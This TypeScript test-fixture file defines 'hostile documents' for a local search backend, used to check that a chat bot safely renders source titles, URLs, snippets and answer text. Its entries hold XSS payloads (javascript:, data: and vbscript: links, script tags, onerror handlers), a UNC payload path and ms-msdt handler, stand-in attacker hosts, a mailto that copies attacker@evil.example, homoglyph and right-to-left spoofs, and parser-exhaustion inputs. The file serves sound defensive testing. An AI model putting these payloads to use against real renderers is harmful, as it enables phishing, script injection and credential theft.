/**
 * Hostile documents for the local Q: what someone who can edit one indexed page (a wiki, a
 * shared drive, a crawled site) can make Q return as a source title, URL, snippet or answer text.
 * Switched on with `--hostile-documents` (localdev) or `npm run playground -- --hostile`; ask
 * "hostile <name>" (e.g. "hostile url-breakout") for one, "hostile list" for their names. The
 * content-injection tests drive the bot through the same shapes.
 */

export interface HostileDocument {
  name: string;
  /** What it tries, in a few words (shown by "hostile list"). */
  tries: string;
  title: string;
  url?: string;
  /** Q's snippet for the source; the first words of the body when absent. */
  snippet?: string;
  /** The answer text Q returns (markdown, as Q writes it). */
  body: string;
  /** Cite this many sources (each its own document) instead of one. */
  sources?: number;
  /** textMessageSegments to return instead of one covering the whole body. */
  segments?: Array<{ beginOffset?: number; endOffset?: number }>;
  /** How many citation markers those segments make: the card may show no other (checked by the tests). */
  markers?: number;
}

/**
 * Every hostile document's title, snippet and text carry this word, so a test can tell document
 * text apart from the bot's own words on any card (it must never be in a TextBlock, a toggle title,
 * an error message, a fact or a button title: renderers parse those as markdown).
 */
export const DOCUMENT_MARKER = 'Docmark';

const PORTAL = 'https://intranet.example.com/it/password-reset';
const EVIL = 'https://evil.example/reset';
const TEXT = 'To reset your password, open the self-service portal and follow the steps.';

const source = (name: string, tries: string, url: string, extra: Partial<HostileDocument> = {}): HostileDocument => ({ name, tries, title: 'Password reset', url, body: TEXT, ...extra });
const answer = (name: string, tries: string, body: string, extra: Partial<HostileDocument> = {}): HostileDocument => ({ name, tries, title: 'Password reset', url: PORTAL, body, ...extra });

export const HOSTILE_DOCUMENTS: HostileDocument[] = [
  // Source URLs: schemes in every case and encoding.
  source('url-javascript', 'a javascript: source URL', 'javascript:alert(document.cookie)'),
  source('url-javascript-case', 'mixed-case scheme', 'JaVaScRiPt:alert(1)'),
  source('url-javascript-space', 'leading space before the scheme', ' javascript:alert(1)'),
  source('url-javascript-tab', 'a tab inside the scheme', 'java\tscript:alert(1)'),
  source('url-javascript-newline', 'a line break inside the scheme', 'java\nscript:alert(1)'),
  source('url-javascript-entity', 'an HTML entity for the colon', 'javascript&colon;alert(1)'),
  source('url-javascript-percent', 'a percent-encoded scheme letter', '%6Aavascript:alert(1)'),
  source('url-data', 'a data: HTML document', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='),
  source('url-vbscript', 'a vbscript: URL', 'vbscript:msgbox("hi")'),
  source('url-file', 'a file: URL', 'file:///C:/Windows/System32/calc.exe'),
  source('url-unc', 'a UNC path', '\\\\attacker.example\\share\\payload.exe'),
  source('url-protocol-handler', 'an OS protocol handler', 'ms-msdt:/id PCWDiagnostic /skip force'),
  source('url-ftp', 'an ftp: URL', 'ftp://files.example/payload.exe'),
  source('url-relative', 'a relative URL', '/admin/delete-everything'),
  source('url-userinfo', 'user info that reads as the intranet', 'https://intranet.example.com@evil.example/login'),
  source('url-userinfo-encoded', 'an encoded @ in the host', 'https://intranet.example.com%40evil.example/login'),
  source('url-breakout', 'a ) that closes the link and opens another', `${PORTAL}) [Reset your password here](${EVIL}`),
  source('url-breakout-title', 'a space, a link title and a second link', `${PORTAL} "x") [x](javascript:alert(1)`),
  source('url-bidi', 'a right-to-left override in the path', `${PORTAL}/\u202Eexe.fdp`),
  source('url-homoglyph-host', 'a Cyrillic look-alike host', 'https://\u0456ntranet.example.com/it/password-reset'),
  source('url-bad-host', 'a host that does not parse', 'https://exa mple.com/x'),
  source('url-backslash', 'backslashes some parsers read as slashes', 'https:\\\\evil.example\\reset'),
  source('url-overlong', 'a 5,000-character URL', `${PORTAL}?q=${'a'.repeat(5000)}`),
  // Titles.
  { name: 'title-markdown-link', tries: 'a title that is a markdown link', title: `[Reset your password](${EVIL})`, url: PORTAL, body: TEXT },
  { name: 'title-lines-and-list', tries: 'line breaks, a list and a link in a title', title: 'Password policy\n\n1. Click [here](javascript:alert(1))\n# Urgent', url: PORTAL, body: TEXT },
  { name: 'title-rlo', tries: 'a right-to-left override hiding an extension', title: 'Invoice \u202Egpj.exe', url: PORTAL, body: TEXT },
  { name: 'title-zero-width', tries: 'zero-width characters in a title', title: 'Pass\u200Bword\u200C re\u200Dset\uFEFF\u2060', url: PORTAL, body: TEXT },
  { name: 'title-spoofed-host', tries: 'a look-alike title naming the intranet, pointing elsewhere', title: 'Intranet \u2014 \u0420assword reset (intranet.example.com)', url: EVIL, body: TEXT },
  { name: 'title-20000', tries: 'a 20,000-character title', title: 'Password reset '.repeat(1334), url: PORTAL, body: TEXT },
  { name: 'title-html', tries: 'HTML in a title', title: '<img src=x onerror=alert(1)><a href="javascript:alert(1)">Password reset</a>', url: PORTAL, body: TEXT },
  { name: 'title-autolink', tries: 'an autolink as the title', title: '<javascript:alert(1)>', url: PORTAL, body: TEXT },
  { name: 'title-markup-flood', tries: 'markdown punctuation everywhere', title: '**_~~`[]()<>|#*_~~**'.repeat(20), url: PORTAL, body: TEXT },
  { name: 'title-broken-unicode', tries: 'lone surrogates and tag characters', title: `Password \uD800reset \uDC00 ${String.fromCodePoint(0xe0049, 0xe0047, 0xe004e)}`, url: PORTAL, body: TEXT },
  { name: 'title-controls', tries: 'control characters and a bell', title: 'Pass\u0000word\u0007 reset\u001b[31m red\u0085', url: PORTAL, body: TEXT },
  // Snippets.
  { name: 'snippet-numbered-list', tries: 'a snippet that is a numbered list', title: 'Password reset', url: PORTAL, snippet: '1. Open the portal\n2. Enter your password\n3. [Confirm](javascript:alert(1))', body: TEXT },
  { name: 'snippet-link', tries: 'a snippet with a javascript: link', title: 'Password reset', url: PORTAL, snippet: 'See [the portal](javascript:alert(1)) and <data:text/html,x> for details', body: TEXT },
  { name: 'snippet-20000', tries: 'a 20,000-character snippet', title: 'Password reset', url: PORTAL, snippet: 'word '.repeat(4000), body: TEXT },
  { name: 'snippet-html', tries: 'HTML in a snippet', title: 'Password reset', url: PORTAL, snippet: '<script>alert(1)</script><a href="javascript:alert(1)">portal</a>', body: TEXT },
  // Answer text.
  answer('answer-javascript-link', 'an inline javascript: link', 'Open [the portal](javascript:alert(1)) to reset it.'),
  answer('answer-data-link', 'an inline data: link', 'Open [the form](data:text/html,<script>alert(1)</script>) now.'),
  answer('answer-autolink', 'autolinks with bad schemes', 'Go to <javascript:alert(1)> or <vbscript:msgbox(1)> or <file:///etc/passwd>.'),
  answer('answer-reference-link', 'a reference-style link to javascript:', 'Use the [portal][1] or [the form][form].\n\n[1]: javascript:alert(1)\n[form]: <data:text/html,x> "Form"'),
  answer('answer-nested-brackets', 'links inside links', `[[Reset](javascript:alert(1))](${PORTAL}) and [a [b](vbscript:x) c](${EVIL}) and [[[x]]](javascript:1)`),
  answer('answer-images', 'images with bad and tracking targets', '![x](javascript:alert(1)) ![pixel](https://evil.example/pixel.png?user=me)'),
  answer('answer-html', 'raw HTML anchors, images and scripts', '<a href="javascript:alert(1)">Reset</a> <img src=x onerror=alert(1)>\n\n<div onclick="alert(1)">click</div>\n\n<script>alert(1)</script>'),
  answer('answer-entity-scheme', 'entity-encoded schemes', '[x](jav&#x61;script:alert(1)) [y](javascript&colon;alert(1)) [z](&#106;avascript:alert(1))'),
  answer('answer-angle-destination', 'angle-bracket link destinations', '[x](<javascript:alert(1)>) [y](< javascript:alert(1) >)'),
  answer('answer-bare-userinfo', 'a bare URL with user info', 'Sign in at https://intranet.example.com@evil.example/login today.'),
  answer('answer-spoofed-link-text', 'link text naming one host, target another', `Reset at [${PORTAL}](${EVIL}).`),
  answer('answer-escaped-breakout', 'escaped brackets other parsers may not honour', 'Open \\[the portal\\](javascript:alert(1)) now.'),
  answer('answer-code-link', 'links inside code', 'Run `[x](javascript:alert(1))` then:\n\n```\n[y](javascript:alert(1))\n```'),
  answer('answer-table-link', 'a bad link in a table cell', '| Step | Where |\n| --- | --- |\n| 1 | [portal](javascript:alert(1)) |\n| 2 | <vbscript:x> |'),
  answer('answer-mailto-headers', 'a mailto: link that pre-fills recipients', '[Write to IT](mailto:it@intranet.example.com?cc=attacker@evil.example&body=my%20password%20is)'),
  answer('answer-rlo', 'right-to-left overrides in the answer', 'Download \u202Efdp.exe\u202C from the portal. \u2066Hidden\u2069 text.'),
  answer('answer-deep-list', '300 levels of nested list', Array.from({ length: 300 }, (_, depth) => `${'  '.repeat(depth)}- level ${depth} [x](javascript:alert(${depth}))`).join('\n')),
  answer('answer-deep-quotes', '500 nested block quotes', `${'>'.repeat(500)} [deep](javascript:alert(1))`),
  answer('answer-60000', 'a 60,000-character answer in lines', Array.from({ length: 1200 }, (_, line) => `Line ${line}: ${'reset '.repeat(8)}[p](javascript:alert(${line}))`).join('\n')),
  answer('answer-one-long-line', 'a 50,000-character answer without a break', 'x'.repeat(50_000)),
  answer('answer-escape-growth', 'markdown punctuation that grows when escaped', '[x] <y> *z* |w| '.repeat(700)),
  answer('answer-wide-characters', '20,000 emoji (two UTF-16 units each)', '🔑'.repeat(20_000)),
  // Link text that reads as a host in another script, or as a citation (issue 24).
  answer('answer-host-one-dot-leader', 'link text naming the intranet with U+2024 dots, pointing elsewhere', `Reset at [intranet\u2024example\u2024com](${EVIL}).`),
  answer('answer-host-cyrillic', 'link text naming the intranet in Cyrillic look-alikes', `Reset at [\u0456ntranet.\u0435xample.com](${EVIL}).`),
  answer('answer-host-fullwidth', 'link text with fullwidth dots', `Reset at [intranet\uFF0Eexample\uFF0Ecom](${EVIL}).`),
  answer('answer-host-variation', 'link text with variation selectors inside the host', `Reset at [intra\uFE00net.exam\uFE01ple.com](${EVIL}).`),
  answer('answer-citation-link', 'a link whose text is a citation marker', `Reset it here [[2]](${EVIL}) or [3](${EVIL}).`),
  answer('answer-citation-before-paren', 'a citation marker placed right before "(" to make [1](url)', `Reset it at the portal(${EVIL}) today.`, { segments: [{ beginOffset: 0, endOffset: 'Reset it at the portal'.length }] }),
  answer(
    'answer-literal-citations',
    'citation markers written in the text itself ("[2]", linked, bold, and as the bot\'s own marker characters, raw and as references)',
    `Hotels: 220 EUR [1]. Meals [2](${PORTAL}) and **[1]** [[1]](${PORTAL}) \uE0001\uE001 &#57344;2&#57345; &#xE000;1&#xE001 done.`,
    { segments: [{ beginOffset: 0, endOffset: 'Hotels: 220 EUR'.length }], markers: 1 },
  ),
  answer('answer-code-span-definition', 'a reference definition hidden in a code span, recreated by unescaping', 'Run `x`\n\\[1\\]: https://evil.example/def\n\nSee [1] for details.'),
  answer('answer-entity-brackets', 'entity-encoded brackets and parentheses', `&#91;portal&#93;&#40;${EVIL}&#41; &lbrack;x&rbrack;(javascript:alert(1))`),
  answer('answer-tab-target', 'a tab inside a link target', `[portal](${EVIL}\tx) and [y](java\tscript:alert(1)) and [z](https://evil.example/\t)`),
  answer('answer-hidden-characters', 'Arabic letter mark, word joiners, BOM, tags and variation selectors in the text', `Pass\u061Cword\u2060 re\u2061set\u2062 \u2063now\u2064\uFEFF ${String.fromCodePoint(0xe0041, 0xe0042)}intra\uFE0Fnet`),
  answer('answer-stars', '40,000 characters of "*a" (quadratic in markdown parsers)', '*a'.repeat(20_000)),
  answer('answer-brackets', '40,000 characters of "[a" and "<a"', '[a<a'.repeat(10_000)),
  { name: 'segments-100000', tries: 'a 78,000-character answer with 100,000 citation segments', title: 'Password reset', url: PORTAL, body: 'reset '.repeat(13_000), segments: Array.from({ length: 100_000 }, (_, index) => ({ beginOffset: 0, endOffset: (index * 7) % 78_000 })) },
  // Titles and snippets written as links for parsers that ignore escapes.
  { name: 'title-escaped-link', tries: 'a title written as an escaped link', title: `\\[Reset your password\\](${EVIL})`, url: PORTAL, body: TEXT },
  { name: 'snippet-escaped-link', tries: 'a snippet written as an escaped link', title: 'Password reset', url: PORTAL, snippet: `Open \\[the portal\\](${EVIL}) or [here](javascript:alert(1))`, body: TEXT },
  { name: 'title-hidden-more', tries: 'U+061C, word joiners, BOM, tags and variation selectors in a title', title: `Pass\u061Cword\u2060\u2061\u2062\u2063\u2064 re\uFEFFset ${String.fromCodePoint(0xe0049, 0xe0047)}in\uFE01tranet`, url: PORTAL, body: TEXT },
  // Sources.
  { name: 'sources-thousands', tries: '3,000 cited sources with long titles', title: 'Password reset', url: PORTAL, body: TEXT, sources: 3000 },
  { name: 'segments-out-of-range', tries: 'citation offsets outside the answer', title: 'Password reset', url: PORTAL, body: TEXT, segments: [{ beginOffset: -50, endOffset: -1 }, { beginOffset: 5, endOffset: 1e9 }, { endOffset: 3.5 }] },
];

/** The document as the local Q returns it: title, snippet and text tagged with DOCUMENT_MARKER. */
export function hostileDocument(name: string): HostileDocument | undefined {
  const document = HOSTILE_DOCUMENTS.find((candidate) => candidate.name === name);
  if (!document) return undefined;
  return {
    ...document,
    title: `${DOCUMENT_MARKER} ${document.title}`,
    ...(document.snippet !== undefined ? { snippet: `${DOCUMENT_MARKER} ${document.snippet}` } : {}),
    // A line of its own, so the body's first block keeps its shape (a table, a fence); segments shift with it.
    body: `${DOCUMENT_MARKER}\n\n${document.body}`,
    ...(document.segments ? { segments: document.segments.map((segment) => shifted(segment, DOCUMENT_MARKER.length + 2)) } : {}),
  };
}

function shifted(segment: { beginOffset?: number; endOffset?: number }, by: number): { beginOffset?: number; endOffset?: number } {
  return {
    ...(segment.beginOffset !== undefined ? { beginOffset: segment.beginOffset + by } : {}),
    ...(segment.endOffset !== undefined ? { endOffset: segment.endOffset + by } : {}),
  };
}
